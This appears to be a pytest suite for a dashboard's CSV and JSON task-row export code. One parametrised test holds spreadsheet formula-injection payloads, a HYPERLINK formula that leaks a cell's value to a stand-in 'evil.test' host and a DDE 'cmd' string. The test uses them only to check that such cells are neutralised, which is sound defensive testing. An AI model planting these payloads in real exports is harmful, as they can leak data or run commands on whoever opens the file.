"""CSV and JSON exports of task rows: the columns, inert formula cells, valid streamed JSON."""

from __future__ import annotations

import calendar
import csv
import io
import json
from collections.abc import Iterator

import pytest

from lobstr_dash.render.exports import CSV_COLUMNS, csv_lines, iso, json_chunks, neutralise, task_record
from lobstr_dash.domain.tasks import missing_share, task_gap
from lobstr_dash.domain.query import TaskRow

STARTED = float(calendar.timegm((2025, 2, 10, 14, 30, 58, 0, 0, 0)))


def make_row(position: int = 1, **changes: object) -> TaskRow:
    """A TaskRow as the store returns it; gap and missing_share follow expected/collected."""
    values: dict[str, object] = {
        "id": f"{position:032x}", "position": position, "task": "d30334cd8d21ab16048c5e2e7136a9f1",
        "status": "aborted", "done_reason": "run_aborted", "done_reason_desc": None,
        "url": "https://www.google.com/maps/search/restaurant/@43.29,5.36,17z",
        "params": {"url": "https://www.google.com/maps/search/restaurant/@43.29,5.36,17z"},
        "started_at": STARTED, "ended_at": STARTED + 12.0, "duration": 12.0,
        "expected": 138, "collected": 6,
    }
    values.update(changes)
    values.setdefault("gap", task_gap(values["expected"], values["collected"]))  # type: ignore[arg-type]
    values.setdefault("missing_share", missing_share(values["expected"], values["collected"]))  # type: ignore[arg-type]
    return TaskRow(**values)  # type: ignore[arg-type]


def read_csv(rows: list[TaskRow]) -> list[dict[str, str]]:
    text = "".join(csv_lines(rows))
    return list(csv.DictReader(io.StringIO(text, newline="")))


# -- iso -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("epoch", "text"), [
    (None, None),
    (0, "1970-01-01T00:00:00Z"),
    (0.0, "1970-01-01T00:00:00Z"),
    (STARTED, "2025-02-10T14:30:58Z"),
    (STARTED + 0.5, "2025-02-10T14:30:58.500000Z"),
    (STARTED + 0.000001, "2025-02-10T14:30:58.000001Z"),
])
def test_iso_formats_epoch_seconds_as_utc_with_z(epoch, text) -> None:
    assert iso(epoch) == text


# -- task_record -----------------------------------------------------------------------------------


def test_task_record_has_every_column_with_computed_values() -> None:
    record = task_record(make_row(position=7))
    assert tuple(record) == CSV_COLUMNS
    assert record["position"] == 7
    assert record["expected"] == 138 and record["collected"] == 6 and record["gap"] == 132
    assert record["completeness"] == round(6 / 138, 6)
    assert record["started_at"] == "2025-02-10T14:30:58Z"
    assert record["ended_at"] == "2025-02-10T14:31:10Z"
    assert record["duration_seconds"] == 12.0
    assert record["params"] == {"url": "https://www.google.com/maps/search/restaurant/@43.29,5.36,17z"}


def test_task_record_keeps_unknowns_as_none_never_zero() -> None:
    record = task_record(make_row(expected=None, collected=None, started_at=None, ended_at=None,
                                  duration=None))
    for key in ("expected", "collected", "gap", "completeness", "started_at", "ended_at",
                "duration_seconds"):
        assert record[key] is None, key


def test_task_record_over_collection_and_nothing_expected() -> None:
    assert task_record(make_row(expected=10, collected=15))["gap"] == -5
    assert task_record(make_row(expected=10, collected=15))["completeness"] == 1.5
    assert task_record(make_row(expected=0, collected=0))["completeness"] == 1.0


def test_task_record_rounds_duration_to_milliseconds() -> None:
    assert task_record(make_row(duration=1.23456))["duration_seconds"] == 1.235


# -- csv_lines -------------------------------------------------------------------------------------


def test_csv_starts_with_the_header_then_one_line_per_task() -> None:
    lines = list(csv_lines([make_row(1), make_row(2)]))
    assert lines[0] == ",".join(CSV_COLUMNS) + "\r\n"
    assert len(lines) == 3
    assert all(line.endswith("\r\n") for line in lines)


def test_csv_of_no_tasks_is_just_the_header() -> None:
    assert list(csv_lines([])) == [",".join(CSV_COLUMNS) + "\r\n"]


def test_csv_streams_the_header_before_reading_any_row() -> None:
    consumed: list[int] = []

    def rows() -> Iterator[TaskRow]:
        for position in (1, 2):
            consumed.append(position)
            yield make_row(position)

    stream = csv_lines(rows())
    assert next(stream).startswith("position,")
    assert consumed == []
    next(stream)
    assert consumed == [1]


def test_csv_cells_hold_the_record_values() -> None:
    [cells] = read_csv([make_row(3, done_reason_desc=None)])
    assert cells["position"] == "3"
    assert cells["id"] == f"{3:032x}"
    assert cells["expected"] == "138" and cells["collected"] == "6" and cells["gap"] == "132"
    assert cells["started_at"] == "2025-02-10T14:30:58Z"
    assert cells["done_reason_desc"] == ""  # None is an empty cell
    assert json.loads(cells["params"]) == {"url": "https://www.google.com/maps/search/restaurant/@43.29,5.36,17z"}


def test_csv_numbers_stay_numbers_even_when_negative() -> None:
    [cells] = read_csv([make_row(expected=10, collected=15)])
    assert cells["gap"] == "-5"
    assert int(cells["gap"]) == -5
    assert cells["completeness"] == "1.5"


def test_csv_zero_is_written_as_zero_not_as_an_empty_cell() -> None:
    [cells] = read_csv([make_row(expected=0, collected=0, duration=0.0)])
    assert (cells["expected"], cells["collected"], cells["gap"]) == ("0", "0", "0")
    assert cells["duration_seconds"] == "0.0"


@pytest.mark.parametrize("evil", [
    '=HYPERLINK("https://evil.test/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "|calc",
])
@pytest.mark.parametrize("column", ["status", "done_reason", "done_reason_desc", "url", "task"])
def test_csv_formula_like_text_cells_are_neutralised(evil, column) -> None:
    [cells] = read_csv([make_row(**{column: evil})])
    assert cells[column] == "'" + evil
    assert not cells[column].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "|"))


def test_csv_params_json_is_inert_even_with_formula_values() -> None:
    [cells] = read_csv([make_row(params={"q": "=1+1", "n": -3})])
    assert cells["params"].startswith("{")
    assert json.loads(cells["params"]) == {"n": -3, "q": "=1+1"}


@pytest.mark.parametrize("plain", ["completed", "run_aborted", "https://a.test/x=1", "1e3", "a-b", "a=b"])
def test_csv_ordinary_text_is_left_alone(plain) -> None:
    [cells] = read_csv([make_row(status=plain)])
    assert cells["status"] == plain


def test_csv_keeps_unicode_intact() -> None:
    desc = "Données manquantes — 東京 🦞"
    params = {"url": "https://maps.test/東京", "q": "crème brûlée"}
    [cells] = read_csv([make_row(done_reason_desc=desc, params=params)])
    assert cells["done_reason_desc"] == desc
    assert json.loads(cells["params"]) == params
    assert "crème brûlée" in cells["params"]  # not \\u-escaped


def test_csv_quotes_commas_quotes_and_newlines_inside_cells() -> None:
    desc = 'a, "quoted"\nsecond line'
    [cells] = read_csv([make_row(done_reason_desc=desc)])
    assert cells["done_reason_desc"] == desc


@pytest.mark.parametrize(("value", "expected"), [
    ("=1", "'=1"), (" +1", "' +1"), ("ok", "ok"), ("", ""), (-5, -5), (0, 0), (1.5, 1.5), (None, None),
])
def test_neutralise_only_touches_formula_like_text(value, expected) -> None:
    assert neutralise(value) == expected


# -- json_chunks -----------------------------------------------------------------------------------


HEAD = {"ok": True, "run": "300e9c5c127d421c90f431478d9a2cfb", "complete": False,
        "missing_positions": [[101, 200]], "total_results": 250, "fetched_at": 1739197870.5}


def test_json_export_parses_with_the_head_keys_and_every_task() -> None:
    rows = [make_row(1), make_row(2, expected=None, collected=None), make_row(3, expected=5, collected=9)]
    data = json.loads("".join(json_chunks(HEAD, rows)))
    assert list(data) == [*HEAD, "tasks"]
    assert {k: data[k] for k in HEAD} == HEAD
    assert data["tasks"] == [task_record(row) for row in rows]
    assert [t["gap"] for t in data["tasks"]] == [132, None, -4]


@pytest.mark.parametrize("count", [0, 1, 2, 50])
def test_json_export_is_valid_for_any_number_of_tasks(count) -> None:
    data = json.loads("".join(json_chunks(HEAD, [make_row(i + 1) for i in range(count)])))
    assert [t["position"] for t in data["tasks"]] == list(range(1, count + 1))


def test_json_export_with_an_empty_head_is_just_the_tasks() -> None:
    assert json.loads("".join(json_chunks({}, [make_row()]))) == {"tasks": [task_record(make_row())]}


def test_json_export_streams_one_chunk_per_task() -> None:
    chunks = list(json_chunks(HEAD, [make_row(1), make_row(2)]))
    assert len(chunks) == 4  # opening, two tasks, closing


def test_json_export_keeps_unicode_and_hostile_text_verbatim() -> None:
    desc = 'Données "quoted" </script> =1+1 東京'
    data = json.loads("".join(json_chunks({"note": "é"}, [make_row(done_reason_desc=desc)])))
    assert data["note"] == "é"
    assert data["tasks"][0]["done_reason_desc"] == desc  # JSON needs no spreadsheet neutralising


def test_an_export_is_written_in_64_kb_pieces_after_its_first_line() -> None:
    from lobstr_dash.web.formats import gathered
    lines = list(csv_lines([make_row(i + 1) for i in range(2000)]))
    pieces = list(gathered(lines, size=65536))
    assert "".join(pieces) == "".join(lines)  # not a byte changed
    assert pieces[0] == lines[0]  # the header leaves before any row is read
    assert all(len(p) >= 65536 for p in pieces[1:-1]) and len(pieces) < 40
    assert all(p.endswith("\r\n") for p in pieces)
